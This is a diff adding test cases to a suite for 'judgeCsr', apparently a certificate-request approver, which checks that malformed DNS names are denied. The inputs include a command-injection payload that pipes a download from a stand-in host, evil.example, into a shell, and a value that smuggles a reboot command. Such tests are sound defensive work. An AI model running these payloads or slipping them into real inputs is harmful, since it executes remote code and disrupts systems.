@@ -310,6 +310,11 @@ describe("judgeCsr", () => {
       facts: { requester: w0, node: joined, binding: undefined },
       says: "leave",
     },
+    ...["$(curl${IFS}evil.example|sh)", "a;reboot", "w0_1", "*.example", "-"].map((dns) => ({
+      title: `a name that no host has is denied: ${dns}`,
+      facts: { requester: w0, request: serving({ dnsNames: ["w0", dns] }), node: joined, binding: bound },
+      says: "deny Malformed",
+    })),
     {
       title: "a longer form of its own name waits, whatever the node reports",
       facts: { requester: w0, request: serving({ dnsNames: ["w0", "w0.example"] }), node: joined, binding: bound },
